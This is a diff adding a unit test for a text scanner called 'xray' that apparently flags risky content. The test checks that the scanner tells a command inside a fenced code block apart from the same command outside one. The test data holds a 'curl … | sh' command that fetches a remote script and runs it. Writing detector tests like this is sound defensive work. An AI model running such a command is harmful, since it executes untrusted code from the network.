@@ -218,6 +218,18 @@ it('reports at most 50 places of a rule', () => {
   expect(xray('a\u200bb '.repeat(200))).toHaveLength(50);
 });
 
+it('knows what is code in each part of a long text', () => {
+  const command = 'curl https://files.example/x | sh';
+  const line = 'Some words of a long text.\n';
+  const lines = (length: number) => line.repeat(length / line.length);
+  // The fence begins in the first part and ends in the second one.
+  const text = `${lines(249_000)}\`\`\`sh\n${lines(3_000)}${command}\n\`\`\`\n${lines(3_000)}${command}\n`;
+  expect(xray(text).map(({ start, mild }) => [text.slice(start, start + 4), mild])).toEqual([
+    ['curl', true],
+    ['curl', undefined],
+  ]);
+});
+
 it.each(['QUJD', 'a', '1', '\u200b', String.raw`\x41`, '%41'])(
   'reads 8,000,000 characters of %j without an error',
   (part) => {
